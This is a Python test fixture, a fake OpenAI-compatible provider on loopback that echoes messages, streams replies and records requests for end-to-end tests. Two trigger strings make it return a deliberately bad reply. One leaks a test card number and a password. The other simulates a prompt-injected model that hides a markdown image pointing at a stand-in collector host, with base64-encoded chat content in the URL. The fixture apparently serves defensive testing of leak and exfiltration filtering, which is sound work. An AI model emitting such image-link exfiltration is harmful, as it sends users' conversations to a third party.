"""An OpenAI-compatible provider on loopback: the only stand-in the e2e tests use (providers are unreachable here).

It answers "echo: <last user message>", streams it word by word, fails on request (a message containing
``UPSTREAM_STATUS=<code>``), and records every request it receives so tests can prove what reached it.
"""

from __future__ import annotations

import json
import re
import threading
import time
import uuid
from typing import Any

import uvicorn
from fastapi import FastAPI, Request
from fastapi.responses import JSONResponse, Response, StreamingResponse

from libs.common.embedded_nats import free_port


def _last_user_text(body: dict[str, Any]) -> str:
    for m in reversed(body.get("messages", [])):
        if m.get("role") == "user":
            c = m.get("content")
            return c if isinstance(c, str) else " ".join(p.get("text", "") for p in c or [])
    return ""


class Upstream:
    def __init__(self, api_key: str) -> None:
        self.api_key = api_key
        self.requests: list[dict[str, Any]] = []
        self.port = free_port()
        self.app = self._build()
        self._server: uvicorn.Server | None = None

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self.port}/v1"

    def _build(self) -> FastAPI:
        app = FastAPI()

        @app.post("/v1/chat/completions")
        async def chat(request: Request) -> Response:
            body = await request.json()
            self.requests.append({"body": body, "authorization": request.headers.get("authorization")})
            if request.headers.get("authorization") != f"Bearer {self.api_key}":
                return JSONResponse({"error": {"message": "bad key", "type": "invalid_request_error"}}, 401)
            text = _last_user_text(body)
            if m := re.search(r"UPSTREAM_STATUS=(\d{3})", text):
                status = int(m.group(1))
                return JSONResponse({"error": {"message": f"upstream says {status}", "type": "server_error"}}, status)
            reply = f"echo: {text}"
            if "UPSTREAM_LEAK" in text:  # a model that leaks what it should not have
                reply = "Sure. The card on file is 4111 1111 1111 1111 and the admin password=hunter2hunter2."
            if "UPSTREAM_EXFIL" in text:  # a model that an injected page told to send the chat to its author
                reply = ("Here is the summary you asked for.\n\n"
                         "![.](https://collector.example/pixel.png?c=VGhlIHVzZXIgYXNrZWQgYWJvdXQgdGhlIFEzIGxheW9mZnM)")
            cid, created, model = f"chatcmpl-{uuid.uuid4().hex}", int(time.time()), body.get("model")
            if not body.get("stream"):
                return JSONResponse({
                    "id": cid, "object": "chat.completion", "created": created, "model": model,
                    "choices": [{"index": 0, "finish_reason": "stop",
                                 "message": {"role": "assistant", "content": reply}}],
                    "usage": {"prompt_tokens": 5, "completion_tokens": len(reply.split()), "total_tokens": 0},
                })

            def chunk(delta: dict[str, Any], finish: str | None = None) -> bytes:
                c = {"id": cid, "object": "chat.completion.chunk", "created": created, "model": model,
                     "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]}
                return f"data: {json.dumps(c)}\n\n".encode()

            def events() -> Any:
                yield chunk({"role": "assistant", "content": ""})
                for i, word in enumerate(reply.split(" ")):
                    yield chunk({"content": word if i == 0 else " " + word})
                yield chunk({}, "stop")
                yield b"data: [DONE]\n\n"

            return StreamingResponse(events(), media_type="text/event-stream")

        return app

    def start(self) -> Upstream:
        config = uvicorn.Config(self.app, host="127.0.0.1", port=self.port, log_level="warning")
        self._server = uvicorn.Server(config)
        threading.Thread(target=self._server.run, daemon=True).start()
        deadline = time.monotonic() + 10
        while not self._server.started:
            if time.monotonic() > deadline:
                raise RuntimeError("upstream did not start")
            time.sleep(0.02)
        return self

    def stop(self) -> None:
        if self._server is not None:
            self._server.should_exit = True


def main() -> None:
    """Run the stand-in provider as a process of its own (benchmarks keep it off the client's interpreter)."""
    import argparse

    parser = argparse.ArgumentParser(description=main.__doc__)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--api-key", required=True)
    args = parser.parse_args()
    upstream = Upstream(args.api_key)
    uvicorn.run(upstream.app, host="127.0.0.1", port=args.port, log_level="warning", access_log=False)


if __name__ == "__main__":
    main()
